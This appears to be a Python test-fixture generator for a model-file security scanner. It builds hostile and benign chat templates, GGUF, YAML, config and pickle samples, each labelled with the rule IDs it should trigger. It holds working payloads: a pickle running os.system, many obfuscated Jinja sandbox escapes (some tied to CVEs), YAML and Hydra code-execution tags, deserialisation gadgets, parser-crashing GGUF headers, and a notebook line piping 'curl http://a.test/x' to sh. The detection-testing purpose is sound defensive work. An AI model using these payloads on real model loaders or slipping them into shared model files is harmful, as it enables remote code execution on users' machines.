"""Hostile files of a second hand, and innocent ones that look guilty: templates, configurations,
arrays, tables, programs in a model's clothes. See run.py."""
import base64
import bz2
import gzip
import io
import json
import lzma
import pathlib
import pickle
import sqlite3
import struct
import tarfile
import zipfile
import zlib

import data as tables  # its writer of Parquet

FIXTURES = pathlib.Path(__file__).resolve().parent.parent / "fixtures"

CODE = ("MDL100", "MDL101", "MDL102", "MDL103")
ESCAPE = ("MDL220", "MDL221", "MDL222", "MDL075")
PICKLE = ("PKL001", "PKL002", "PKL003", "PKL020", "PKL021", "PKL039", "PKL040")


class Run:
    """A pickle that runs a command."""

    def __reduce__(self):
        return eval, ("__import__('os').system('id')",)


EVIL = pickle.dumps(Run(), 4)
EVIL0 = pickle.dumps(Run(), 0)


def dump(value, **kw):
    return json.dumps(value, **kw).encode()


def zipped(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def tarred(members, mode="w"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def gstr(s):
    s = s if isinstance(s, bytes) else s.encode()
    return struct.pack("<Q", len(s)) + s


def gguf(values, tensors=b"", n=0, data=b"", version=3, count=None):
    """values: (key, kind, packed value)."""
    head = b"GGUF" + struct.pack("<IQQ", version, n, len(values) if count is None else count)
    head += b"".join(gstr(k) + struct.pack("<I", t) + v for k, t, v in values) + tensors
    return head + (bytes(-len(head) % 32) + data if n else b"")


ARCH = ("general.architecture", 8, gstr("llama"))


def gguf_template(text, key="tokenizer.chat_template"):
    return gguf([ARCH, (key, 8, gstr(text))])


def gtensor(name, dims, kind, at):
    return (gstr(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) +
            struct.pack("<IQ", kind, at))


def tokenizer_config(template, **more):
    return dump({"tokenizer_class": "LlamaTokenizer", "chat_template": template, **more})


def carried(i, text):
    """A template in one of the places where templates live."""
    places = (
        lambda: ("tokenizer_config.json", tokenizer_config(text)),
        lambda: ("chat_template.jinja", text.encode()),
        lambda: ("model%d.gguf" % i, gguf_template(text)),
        lambda: ("chat_template.json", dump({"chat_template": text})),
        lambda: ("tokenizer_config.json", tokenizer_config(
            [{"name": "default", "template": "{{ messages[0].content }}"},
             {"name": "tool_use", "template": text}])),
        lambda: ("processor_config.json", dump({"processor_class": "LlavaProcessor",
                                                "chat_template": text})),
        lambda: ("named%d.gguf" % i, gguf_template(text, "tokenizer.chat_template.tool_use")),
    )
    return places[i % len(places)]()


# ---- templates ----

ESCAPES = [
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "the known cycler"),
    ("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
     "{{ c.__init__.__globals__['__builtins__'].eval('1') }}{% endif %}{% endfor %}",
     "CVE-2024-34359"),
    ("{{ ''['__cla' ~ 'ss__'] }}{{ ''|attr('__cla' ~ 'ss__')|attr('__mro__') }}", "joined by ~"),
    ("{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}", "hex escapes"),
    ("{{ ()|attr('\\137\\137class\\137\\137')|attr('\\137\\137mro\\137\\137') }}", "octal escapes"),
    ("{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f')|attr('\\U0000005f_base__') }}", "\\u escapes"),
    ("{{ ()|attr('\\N{LOW LINE}_class_\\N{LOW LINE}')|attr('\\N{LOW LINE}_base__') }}",
     "named escapes"),
    ("{{ ()|attr(['_'*2,'class','_'*2]|join)|attr(['_'*2,'mro','_'*2]|join) }}", "join of a list"),
    ("{{ ()|attr(('ssalc' ~ '__')|reverse ~ '') }}{{ ()['__ssalc__'[::-1]] }}", "backwards"),
    ("{{ ()|attr('%s%sclass%s%s'|format('_','_','_','_'))|attr('%cbase'|format(95)) }}", "format"),
    ("{{ ()|attr('%c%cclass%c%c' % (95,95,95,95)) }}", "the % operator"),
    ("{{ '{0.__class__.__init__.__globals__}'.format(messages) }}", "format strings read attributes"),
    ("{% set f = '{0.__class__.__mro__}'.format %}{{ f(messages) }}",
     "CVE-2024-56326: a stored reference to format"),
    ("{{ ('{0.__cl' ~ 'ass__.__mro__}')|attr('format')(messages) }}", "CVE-2025-27516: |attr('format')"),
    ("{{ '{0.__class__.__mro__}'.format_map({'0': messages}) }}", "format_map"),
    ("{% set ns = namespace(a='__cla') %}{% set ns.a = ns.a ~ 'ss__' %}{{ ()[ns.a]['__base__'] }}",
     "a namespace keeps a part"),
    ("{% set a, b = '__cla', 'ss__' %}{{ ()[a + b] }}", "two names set at once"),
    ("{% macro m(n) %}{{ ()|attr(n) }}{% endmacro %}{{ m('__class__') }}", "a macro's argument"),
    ("{% macro m(n='__class__') %}{{ ()|attr(n) }}{% endmacro %}{{ m() }}", "a macro's default"),
    ("{% for n in ['__class__', '__base__'] %}{{ ()|attr(n) }}{% endfor %}", "a loop's names"),
    ("{% with n = '__globals__' %}{{ cycler.next|attr(n) }}{% endwith %}", "with"),
    ("{% set n %}__globals__{% endset %}{{ lipsum|attr(n) }}", "a block set"),
    ("{{ lipsum|map(attribute='__globals__')|list }}", "map with an attribute"),
    ("{{ [lipsum]|map('attr', '__globals__')|list }}", "map with the filter's name"),
    ("{{ [lipsum]|sum(attribute='__globals__') }}{{ [x]|groupby('__class__.__base__') }}", "groupby"),
    ("{{ [lipsum]|selectattr('__globals__.os')|list }}", "selectattr"),
    ("{{ [()]|sort(attribute='__class__.__base__')|first }}", "sort"),
    ("{{ self._TemplateReference__context.environment.from_string('x') }}", "self's context"),
    ("{{ self['_Temp' ~ 'lateReference__context'] }}", "self's context, joined"),
    ("{{ joiner.__init__.__globals__.get('os') }}", "joiner"),
    ("{{ url_for.__globals__['current_app'].config }}{{ get_flashed_messages.__globals__ }}", "Flask"),
    ("{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}", "Flask"),
    ("{{ lipsum.__globals__.os.popen('id').read() }}", "lipsum"),
    ("{{ dict.mro()[-1].__subclasses__() }}", "mro without underscores"),
    ("{{ messages.append.__self__.__class__.__base__ }}", "a method's self"),
    ("{{ (lipsum|attr(dict(__glo=1,bals__=2)|join)) }}", "keys of dict joined"),
    ("{{ lipsum|attr(dict(__globals__=x)|first) }}", "a key of dict"),
    ("{{ lipsum|attr('__GLOBALS__'|lower) }}", "lower case made on the way"),
    ("{{ lipsum|attr('__glXobals__'|replace('X','')) }}", "replace"),
    ("{{ lipsum|attr('  __globals__ '|trim) }}", "trim"),
    ("{{ lipsum|attr('__globals__zz'[:11]) }}", "a slice"),
    ("{{ lipsum|attr('__globals__'.strip()) }}{{ lipsum['__gl'.__add__('obals__')] }}", "methods"),
    ("{{ lipsum|attr('a__globals__b'.split('a')[1][:-1]) }}", "split"),
    ("{{ lipsum|attr('__'.join(['','globals',''])) }}", "str.join"),
    ("{{ lipsum|attr(request.args.a) }}{{ lipsum|attr(messages[0].content) }}",
     "a name that the caller sends"),
    ("{{ lipsum[messages[0]['role']] }}", "a subscript of a function by what the caller sends"),
    ("{%- set u = '_' * 2 -%}{{ lipsum[u + 'globals' + u]['os']['popen']('id') }}", "repeated"),
    ("{{ lipsum|attr({'a':'__globals__'}['a']) }}{{ lipsum|attr({'a':'__glob'}.a ~ 'als__') }}",
     "looked up in a dict"),
    ("{{ lipsum\n.\n__globals__ }}", "newlines between"),
    ("{%set x=lipsum%}{%set y=x.__globals__%}{{y.os.system('id')}}", "no blanks"),
    ("{# {{ #}{{ lipsum.__globals__ }}{# }} #}", "comments around"),
    ("{% raw %}{% endraw %}{{ lipsum.__globals__ }}{% raw %}{{ {% endraw %}", "raw around"),
    ("{% if true %}{{ lipsum.__code__.co_consts }}{% endif %}", "a function's code"),
    ("{% include '/etc/passwd' %}", "include"),
    ("{% from '../../x' import y %}{{ y() }}", "import"),
    ("{% extends evil %}", "extends"),
    ("{% for i in range(999999999) %}{% for j in range(99999999) %}x{% endfor %}{% endfor %}", "endless"),
    ("{{ 'x' * 9999999999 }}", "a long text"),
    ("{{ messages|attr('_' ~ '_class_' ~ '_') }}", "three parts"),
    ("{{ (messages|string|list)[0] ~ '' }}{{ lipsum|attr((lipsum|string|list)[18]*2 ~ 'globals__') }}",
     "characters taken from a text"),
    ("{{ lipsum.__globals__ if false else '' }}", "behind a condition"),
    ("{{ namespace.__init__.__globals__ }}", "namespace"),
    ("{{ raise_exception.__globals__.sys.modules.os.system('id') }}", "a function of transformers"),
    ("{{ strftime_now.__globals__ }}", "another"),
    ("{{ x.__class__.__name__.__class__.__base__ }}", "a harmless name, then up again"),
    ("{{ x.__doc__.__class__.__mro__ }}{{ x.__len__.__self__ }}", "a harmless name, then up again"),
    ("{{ x.__repr__.__globals__ }}", "globals of a method"),
    ("{{ x.__reduce_ex__(4) }}", "pickling"),
    ("{{ x.__getattribute__('__class__').__base__ }}", "getattribute"),
    ("{{ ''.__str__.__objclass__.__base__ }}", "a wrapper's class"),
    ("{{ x.gi_frame.f_back.f_globals }}", "frames"),
    ("{{ _context.environment.overlay }}{{ context.exported_vars }}{{ caller.__globals__ }}", "context"),
]

TEMPLATES_GOOD = [
    ("{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>' }}"
     "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}", "ChatML"),
    ("{{ x.__repr__() }}", "ends in a text"),
    ("{{ x.__class__.__name__ }}", "the name of a class"),
    ("{{ x.__len__() }} {{ x.__str__() }} {{ x.__doc__ }}", "harmless"),
    ("{{ func.__name__ }} {{ module.__version__ }} {{ x.__class__.__qualname__|lower }}", "names"),
    ("{% if x.__class__.__name__ == 'list' %}a{% endif %}", "compared"),
    ("{{- bos_token -}}{%- set ns = namespace(found=false, system='') -%}{%- for m in messages -%}"
     "{%- if m.role == 'system' -%}{%- set ns.system = m.content -%}{%- endif -%}{%- endfor -%}"
     "{{ ns.system | trim }}", "a namespace"),
    ("{{ 'Do not write __class__ or os.system or import subprocess' }}{{ messages[-1].content }}",
     "words in a text"),
    ("{% macro show(t) %}{{ t.name }}: {{ t.parameters | tojson(indent=2) }}{% endmacro %}"
     "{% for t in tools %}{{ show(t.function) }}{% endfor %}", "a macro"),
    ("{% if not messages %}{{ raise_exception('No messages; use __init__ first') }}{% endif %}"
     "{{ strftime_now('%d %b %Y') }}", "raise_exception"),
    ("{% for k, v in tool.items() %}{{ k }}={{ v['type'] if v is mapping else tool[k] }}{% endfor %}",
     "a subscript by a loop's name"),
    ("{% set role = {'user': 'Human', 'assistant': 'AI'} %}{% for m in messages %}"
     "{{ role[m.role] }}: {{ m.content.split('</think>')[-1].lstrip('\\n') }}{% endfor %}", "dict lookup"),
    ("{{ '%s: %s' % (messages[0].role, messages[0].content) }}{{ '{}: {}'.format(a, b) }}", "format"),
    ("{{ messages | selectattr('role', 'equalto', 'user') | map(attribute='content') | join('\\n') }}",
     "filters by attribute"),
    ("{% for i in range(0, messages|length) %}{{ messages[i]['content'] }}{{ loop.index0 }}{% endfor %}",
     "range"),
    ("{# os.popen('id').read(), lipsum.__globals__ #}{{ x }}", "in a comment"),
    ("{% raw %}{{ lipsum.__globals__ }}{% endraw %}", "in raw"),
    ("{{ messages[::-1][0].content[:100] }}{{ messages[0]['content'] | replace('__', '') }}", "slices"),
    ("{% generation %}{{ messages[-1].content }}{% endgeneration %}", "a tag of transformers"),
    ("{%- call(x) show() -%}{{ x }}{%- endcall -%}{%- macro show() -%}{{ caller('a') }}{%- endmacro -%}",
     "call"),
]


def bad_templates():
    for i, (text, why) in enumerate(ESCAPES):
        name, data = carried(i, text)
        ids = ESCAPE
        if "include" in text or "import y" in text or "extends" in text:
            ids = ("MDL223",)
        elif "99999" in text:
            ids = ("MDL224",)
        yield name, data, ids, "%d %s: %s" % (i, why, text)
    evil = "{{ lipsum.__globals__.os.popen('id').read() }}"
    yield "tokenizer_config.json", tokenizer_config({"default": evil}), ESCAPE, "a map of templates"
    yield "adapter_config.json", dump({"peft_type": "LORA", "chat_template": evil}), ESCAPE, "an adapter"
    yield "generation_config.json", dump({"chat_template": evil}), ESCAPE, "a generation config"
    yield "config.json", dump({"model_type": "llama", "text_config": {"chat_template": evil}}), ESCAPE, \
        "a nested config"
    yield "x/additional_chat_templates/rag.jinja2", evil.encode(), ESCAPE, "another ending"
    yield "prompt.j2", b"\xef\xbb\xbf" + evil.encode(), ESCAPE, "a mark in front"
    yield "prompt.jinja", evil.encode("utf-16"), None, "in two-byte units"
    yield "a.gguf", gguf([ARCH, ("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) +
                                 gstr("tool_use")),
                          ("tokenizer.chat_template.tool_use", 8, gstr(evil))]), ESCAPE, "named"
    yield "b.gguf", gguf([ARCH, ("custom.prompt", 8, gstr(evil))]), ESCAPE, "in any other key"
    yield "c.gguf", gguf([ARCH, ("tokenizer.chat_template", 9, struct.pack("<IQ", 8, 1) +
                                 gstr(evil))]), ESCAPE + ("MDL236",), "an array of templates"
    yield "d.gguf", gguf([ARCH, ("tokenizer.chat_template", 8, gstr("{{ x }}")),
                          ("tokenizer.chat_template", 8, gstr(evil))]), ESCAPE + ("MDL230",), "twice"
    yield "dpo.yaml", ("model: llama\nchat_template: \"%s\"\n" % evil).encode(), ESCAPE, "YAML"
    yield "tokenizer_config.json", b'{"chat_template": "' + "".join(
        "\\u%04x" % ord(c) for c in evil).encode() + b'"}', ESCAPE, "escaped in JSON"


def good_templates():
    for i, (text, why) in enumerate(TEMPLATES_GOOD):
        name, data = carried(i, text)
        yield name, data, None, "%d %s: %s" % (i, why, text)
    yield "computation.html.j2", (
        b"<div style=\"padding: 1em\">\n<table>\n<tr><th>Key</th><td>{{ key }}</td></tr>\n"
        b"<tr><th>Type</th><td>{{ type(x).__name__ if x else x.__class__.__name__ }}</td></tr>\n"
        b"{% for k in computation.groups %}<tr><td>{{ k.__repr__() }}</td></tr>{% endfor %}\n"
        b"</table></div>\n"), None, "a page's template"


# ---- GGUF ----

def bad_gguf():
    two = gtensor("a", [4], 0, 0) + gtensor("b", [4], 0, 8)
    yield "overlap.gguf", gguf([ARCH], two, 2, bytes(32)), ("MDL232", "ENG001"), "shared bytes"
    yield "huge.gguf", gguf([ARCH], gtensor("a", [2**40, 2**40], 0, 0), 1, bytes(32)), None, \
        "a product that overflows"
    yield "count.gguf", gguf([ARCH], count=2**60), None, "a lying count"
    yield "array.gguf", gguf([ARCH, ("a.b", 9, struct.pack("<IQ", 4, 2**61) + bytes(8))]), None, \
        "a lying array: 4 * 2^62 wraps"
    yield "string.gguf", gguf([ARCH, ("a.b", 8, struct.pack("<Q", 2**64 - 1))]), None, "a lying string"
    nest = b"".join(struct.pack("<IQ", 9, 1) for _ in range(5000)) + struct.pack("<IQ", 4, 1) + bytes(4)
    yield "nest.gguf", gguf([ARCH, ("a.b", 9, nest)]), None, "arrays in arrays"
    yield "version.gguf", gguf([ARCH], version=77), None, "an unknown version"
    yield "type.gguf", gguf([ARCH], gtensor("a", [4], 250, 0), 1, bytes(32)), None, "an unknown type"
    yield "dims.gguf", gguf([ARCH], gtensor("a", [1] * 9, 0, 0), 1, bytes(32)), None, "nine dimensions"
    yield "off.gguf", gguf([ARCH], gtensor("a", [4], 0, 2**63), 1, bytes(32)), None, "an offset outside"
    yield "align.gguf", gguf([ARCH, ("general.alignment", 4, struct.pack("<I", 0))],
                             gtensor("a", [4], 0, 0), 1, bytes(32)), None, "alignment 0"
    yield "tail.gguf", gguf([ARCH], gtensor("a", [4], 0, 0), 1, bytes(16) + bytes(16) + EVIL), None, \
        "a pickle behind the tensors"
    yield "base.gguf", gguf([ARCH, ("general.source.url", 8, gstr("x" * 3)),
                             ("split.count", 2, struct.pack("<H", 9)),
                             ("a\0b", 8, gstr("x"))]), ("MDL231",), "a NUL in a key"
    yield "key.gguf", gguf([ARCH, ("k" * 70000, 8, gstr("x"))]), ("MDL231", "ENG001"), "a long key"
    yield "tok.gguf", gguf([ARCH, ("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 1) + gstr("a")),
                            ("tokenizer.ggml.scores", 9, struct.pack("<IQ", 6, 3) + bytes(12))]), \
        ("MDL235",), "scores of other tokens"
    whole = (FIXTURES / "gguf" / "tiny-q8.gguf").read_bytes()
    yield "cut.gguf", whole[:len(whole) // 2], None, "cut off"
    yield "polyglot.gguf", gguf([ARCH]) + zipped({"data.pkl": EVIL}), None, "an archive behind"
    yield "ggml.bin", b"lmgg" + struct.pack("<7I", 2**31, 64, 256, 4, 2, 16, 2), None, "a lying old one"


def good_gguf():
    yield "name.gguf", gguf([ARCH, ("general.name", 8, gstr("eval() of os.system, __import__")),
                             ("general.url", 8, gstr("https://huggingface.co/x/y"))]), None, "words"
    yield "imatrix.gguf", gguf([("general.type", 8, gstr("imatrix")),
                                ("imatrix.datasets", 9, struct.pack("<IQ", 8, 1) + gstr("wiki.txt"))],
                               gtensor("blk.0.ffn_down.weight.counts", [1], 0, 0), 1, bytes(32)), \
        None, "an importance matrix"
    yield "v2.gguf", gguf([ARCH], gtensor("a", [4], 0, 0), 1, bytes(32), version=2), None, "version 2"
    yield "tokens.gguf", gguf([ARCH, ("tokenizer.ggml.model", 8, gstr("gpt2")), (
        "tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 4) + gstr("__class__") + gstr("os.system") +
        gstr("\\x00") + gstr(b"{{"))]), None, "tokens that are code's words"
    yield "moe.gguf", gguf([("general.architecture", 8, gstr("qwen3moe")),
                            ("qwen3moe.expert_count", 4, struct.pack("<I", 128)),
                            ("quantize.imatrix.file", 8, gstr("/models_out/x.imatrix"))]), None, \
        "a path of whoever quantised it"


# ---- YAML ----

YAML_TAGS = [
    b"!!python/object/apply:os.system ['id']\n",
    b"a: !!python/object/new:os.system [id]\n",
    b"!<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
    b"%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [id]\n",
    b"%TAG !x! tag:yaml.org,2002:\n---\na:\n - !x!python/name:os.system\n",
    b"%YAML 1.1\n%TAG !p! tag:yaml.org,2002:pyt\n---\n!p!hon/object/apply:os.system [id]\n",
    b"? !!python/object/apply:os.system [id]\n: b\n",
    b"a: &x !!python/module:os\nb: *x\n",
    b"a: !!python%2Fobject%2Fapply:os.system [id]\n",
    b"a: !!pyth%6fn/object/apply:os.system [id]\n",
    b"{a: [{b: !!python/object/apply:subprocess.Popen [[id]]}]}\n",
    b"a: 1\n---\nb: 2\n---\n!!python/object/apply:os.system [id]\n",
    b"a:\n  - !!python/object/apply:builtins.exec\n    args: ['import os']\n",
    b"!!python/object:collections.OrderedDict\nstate: !!python/object/new:type\n  args: [z, !!python/tuple [],"
    b" {extend: !!python/name:exec }]\n  listitems: \"__import__('os').system('id')\"\n",
    b"a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://a/\"]]]]\n",
    b"a: !ruby/object:Gem::Installer\n  i: x\n",
    b"a: !!js/function 'function(){}'\n",
    b"\xef\xbb\xbfa: !!python/object/apply:os.system [id]\n",
    "a: !!python/object/apply:os.system [id]\n".encode("utf-16"),
    b"a: 'text'\r\nb: !!python/object/apply:os.system [id]\r\n",
    b"a: |\n  text\nb: !!python/object/apply:os.system\n- id\n",
]


def bad_yaml():
    for i, text in enumerate(YAML_TAGS):
        name = ("config.yaml", "params.yml", "hparams.yaml")[i % 3]
        yield name, text, ("MDL071", "MDL100", "MDL101", "MDL254", "MDL074"), text.decode("latin1")


def good_yaml():
    yield "a.yaml", b"text: 'use !!python/object/apply:os.system to break it'\n", None, "in quotes"
    yield "b.yaml", b"# !!python/object/apply:os.system [id]\na: 1\n", None, "in a comment"
    yield "c.yaml", b"doc: |\n  !!python/object/apply:os.system [id]\n  more\n", None, "in a block"
    yield "d.yaml", b"a: !!str 5\nb: !!float 1\nc: !!set {x, y}\nd: !!binary aGVsbG8=\n", None, "plain tags"
    yield "hparams.yaml", b"betas: !!python/tuple\n- 0.9\n- 0.999\nlr: 0.1\n", None, "Lightning's tuples"
    yield "hyperparams.yaml", (
        b"seed: !apply:torch.manual_seed [1234]\nsample_rate: 16000\n"
        b"model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: !ref <n_mels>\n"
        b"n_mels: 80\n"), None, "SpeechBrain's own"
    yield "action.yml", b"on: push\nvalue: !Ref Bucket\nother: !Sub '${A}-x'\n", None, "CloudFormation"


# ---- configurations that name code ----

def bad_configs():
    yield "config.json", dump({"model_type": "x", "auto_map": {"AutoModel": "evil--m.Model"}}), \
        ("MDL103",), "another repository's code"
    yield "config.json", dump({"model_type": "x", "auto_map": {"AutoModel": ["a.B", "evil/y--m.M"]}}), \
        CODE, "in a list"
    yield "tokenizer_config.json", dump({"auto_map": ["tok.Slow", "tok.Fast"]}), CODE, "a list"
    yield "preprocessor_config.json", dump({"auto_map": {"AutoImageProcessor": "ip.IP"}}), CODE, "images"
    yield "generation_config.json", dump({"custom_generate": "evil/gen", "auto_map": {
        "x": "evil/gen--g.G"}}), CODE, "generation"
    yield "config.json", dump({"model_type": "llava", "vision_config": {
        "auto_map": {"AutoConfig": "evil/y--c.C"}}}), CODE, "nested"
    yield "config.json", dump({"custom_pipelines": {"p": {"impl": "pipe.P", "pt": ["AutoModel"]}}}), \
        CODE, "custom pipelines"
    yield "model_index.json", dump({"_class_name": ["pipeline", "Evil"], "unet": ["unet_x", "Net"]}), \
        CODE, "diffusers' own pipelines"
    yield "model_index.json", dump({"_class_name": "StableDiffusionPipeline", "vae": ["os", "system"]}), \
        CODE, "a library that is no diffusers"
    yield "modules.json", dump([{"idx": 0, "name": "0", "path": "", "type": "evil_mod.Model"}]), \
        CODE, "sentence-transformers"
    yield "modules.json", dump([{"idx": 0, "name": "0", "path": "../../x",
                                 "type": "sentence_transformers.models.Transformer"}]), \
        ("MDL104",), "a path outside"
    yield "config.yaml", b"model:\n  layers:\n    - - _target_: os.system\n        command: id\n", CODE, \
        "Hydra in lists"
    yield "config.yaml", b"m:\n  _target_: hydra.utils.get_method\n  path: os.system\n", CODE, "get_method"
    yield "config.yaml", b"m:\n  _target_: functools.partial\n  _args_: [{_target_: subprocess.Popen}]\n", \
        CODE, "partial"
    yield "config.yaml", b"x: os\nm:\n  _target_: ${x}.system\n", \
        CODE + ("MDL251", "MDL252"), "interpolated"
    yield "config.yaml", b"m:\n  _target_: ${oc.env:EVIL}\n  _partial_: true\n", \
        CODE + ("MDL251", "MDL252"), "from the environment"
    yield "config.yaml", b"m:\n  '_target_' : builtins.eval\n  _args_: ['1']\n", CODE, "quoted"
    yield "config.yaml", b"m: {\"_tar\\x67et_\": posix.system, _args_: [id]}\n", CODE, "escaped key"
    yield "config.yaml", b"a: &a\n  _target_: os.system\nb:\n  <<: *a\n  x: 1\n", CODE, "merged"
    yield "config.json", dump({"m": [{"_target_": "torch.hub.load", "repo_or_dir": "evil/x"}]}), \
        CODE + ("MDL106",), "torch.hub"
    yield "data.json", dump({"py/object": "os.system"}), CODE, "jsonpickle"
    yield "data.json", dump({"a": [{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}]}), \
        CODE, "jsonpickle reduce"
    yield "data.json", dump({"a": {"py/repr": "os/os.system('id')"}}), CODE + ("MDL251",), "py/repr"
    yield "x.json", dump({"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}), CODE, \
        "LangChain"
    yield "x.jsonl", dump({"a": {"lc": 1, "type": "constructor", "id": [
        "langchain_community", "llms", "evil", "X"], "kwargs": {}}}) + b"\n" + dump({"lc": 1, "type": "constructor", "id": ["os", "system"],
        "kwargs": {"command": "id"}}) + b"\n", CODE, "LangChain in lines"
    yield "prompt.json", dump({"lc": 1, "type": "constructor", "id": [
        "langchain_core", "prompts", "prompt", "PromptTemplate"], "kwargs": {
        "template": "{{ lipsum.__globals__ }}", "template_format": "jinja2"}}), CODE + ESCAPE, \
        "a Jinja template that LangChain renders"
    yield "x.json", dump({"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}), None, \
        "LangChain reads a secret of the environment: CVE-2025-68664"
    yield "prompt.json", dump({"_type": "prompt", "input_variables": [], "template_format": "jinja2",
                               "template": "{{ ''.__class__.__mro__ }}"}), ESCAPE, \
        "LangChain's older prompts"
    yield "MLmodel", b"flavors:\n  python_function:\n    loader_module: evil.loader\n    data: data\n" \
        b"    env: conda.yaml\n    code: code\n", CODE, "MLflow"
    yield "MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n" \
        b"    model_path: ../../../etc/x.pkl\n", ("MDL104",), "a path outside"
    yield "MLmodel", b"flavors: {python_function: {model_code_path: /srv/x.py, loader_module: " \
        b"mlflow.pyfunc.model}}\n", CODE + ("MDL104",), "models from code"
    yield "a.mar", zipped({"MAR-INF/MANIFEST.json": dump({"model": {
        "handler": "h.py", "modelName": "x", "serializedFile": "m.pt"}}),
        "h.py": "import os\nos.system('id')\n", "m.pt": b"x"}), None, "a handler"
    yield "b.mar", zipped({"MAR-INF/MANIFEST.json": dump({"model": {
        "handler": "../../h.py:handle", "modelName": "x"}})}), ("MDL104",), "a handler outside"
    yield "c.mar", zipped({"MAR-INF/MANIFEST.json": dump({"model": {
        "handler": "image_classifier", "modelName": "x", "requirementsFile": "requirements.txt"}}),
        "requirements.txt": "--index-url http://a.test/simple\nx\n"}), ("MDL257", "MDL256"), "requirements"
    yield "x.nemo", tarred({"model_config.yaml": b"target: nemo.x.Y\nencoder:\n  _target_: os.system\n",
                            "model_weights.ckpt": b""}, "w:gz"), CODE, "NeMo"
    yield "y.nemo", tarred({"./model_config.yaml": b"a: 1\n", "./model_weights.ckpt": zipped({
        "a/data.pkl": EVIL, "a/version": b"3\n"}, 0)}), PICKLE, "NeMo's weights"
    yield "requirements.txt", b"torch\nevil @ http://a.test/e.tar.gz\n", ("MDL257",), "plain http"
    yield "requirements.txt", b"--extra-index-url=https://a.test/simple\ntorch\n", ("MDL256",), "an index"
    yield "requirements.txt", b"-ihttps://a.test/s\n--trusted-host a.test\n", \
        ("MDL256", "MDL257"), "short"
    yield "requirements.txt", b"tor\\\nch\n-f \\\n  https://a.test/x\n", ("MDL256",), "over two lines"
    yield "requirements.txt", b"git+https://github.com/a/b@main\n", ("MDL256",), "a branch"
    yield "requirements.txt", b"./wheels/evil.whl\n-r ../../other.txt\n", ("MDL256", "MDL104"), "paths"
    yield "conda.yaml", b"channels: [https://a.test/c]\ndependencies:\n- pip:\n  - git+ssh://git@a.test/b\n", \
        ("MDL256",), "conda"
    yield "adapter_config.json", dump({"peft_type": "LORA", "base_model_name_or_path": "x",
                                       "auto_mapping": {"base_model_class": "B",
                                                        "parent_library": "evil.mod"}}), CODE, "PEFT"
    yield "params.json", dump({"model": {"type": "os.system"}, "registry": {"_target_": "os.system"}}), \
        CODE, "another name"
    yield "a.ipynb", dump({"cells": [{"cell_type": "code", "source": [
        "!curl http://a.test/x|sh\n"], "outputs": [], "metadata": {}, "execution_count": None}],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), None, "a notebook that fetches"
    yield "tokenizer.json", b'{"version":"1.0","model":{"type":"BPE","vocab":{"a":0},"merges":[]},' \
        b'"added_tokens":[{"id":0,"content":"ok"},{"id":0,"content":"other"}]}', ("MDL259",), "one number"
    yield "config.json", b'{"auto_map": {"AutoModel": "a/b--c.D"}, "auto_map": {}}', \
        CODE + ("MDL253",), "given twice"
    yield "config.json", b'{"x": {"model_type":"a"}, "auto_map"\n:\n{"AutoModel": "evil/y--m.M"}} ', CODE, \
        "laid out oddly"
    yield "config.json", b'{"model_type": "a", /* */ "auto_map": {"AutoModel": "evil/y--m.M"}}', None, \
        "with a comment"
    yield "config.json", dump({"a": {"auto_map": {"AutoModel": "evil/y--m.M"}}}).decode().encode("utf-16"), \
        None, "in two-byte units"
    yield "config.json", b"[" * 200000, None, "deep"
    yield "config.json", dump({"model_type": "x", "_attn_implementation": "evil/kernel"}), None, \
        "a kernel of the Hub"
    yield "config.json", dump({"model_type": "x", "quantization_config": {
        "quant_method": "x", "dequantize": {"py/object": "os.system"}}}), CODE, "jsonpickle inside"


def good_configs():
    yield "train.yaml", b"model_name_or_path: a/b\ntrust_remote_code: true\nlr: 1e-5\n", None, \
        "a training's switch"
    yield "requirements.txt", b"torch==2.1\ngit+https://github.com/huggingface/peft.git@" + b"a1" * 20 + \
        b"\n", None, "a full commit"
    yield "requirements.txt", b"clip @ git+https://github.com/openai/CLIP.git@v1.0.1\nnumpy>=1.2 ; " \
        b"python_version > '3'\n", None, "a tag"
    yield "requirements.txt", b"# -i http://a.test\n--extra-index-url https://download.pytorch.org/whl/cu118\n" \
        b"torch\n-r other.txt\n", None, "PyTorch's own index"
    yield "requirements.txt", b"torch[extra]==2.1 --hash=sha256:" + b"ab" * 32 + b"\n", None, "a hash"
    yield "config.json", dump({"model_type": "llama", "auto_map": {}, "task_specific_params": {
        "translation": {"prefix": "exec(import os)"}}}), None, "an empty map"
    yield "config.yaml", b"model:\n  _target_: torch.nn.Linear\n  in_features: 3\n  out_features: 4\n" \
        b"opt:\n  _target_: torch.optim.AdamW\n  _partial_: true\n  lr: 1e-3\n", None, "Hydra, known"
    yield "config.yaml", b"m:\n  _target_: pytorch_lightning.Trainer\n  callbacks:\n  - _target_: " \
        b"pytorch_lightning.callbacks.ModelCheckpoint\n    dirpath: ${oc.env:PWD}/x\n", None, "Lightning"
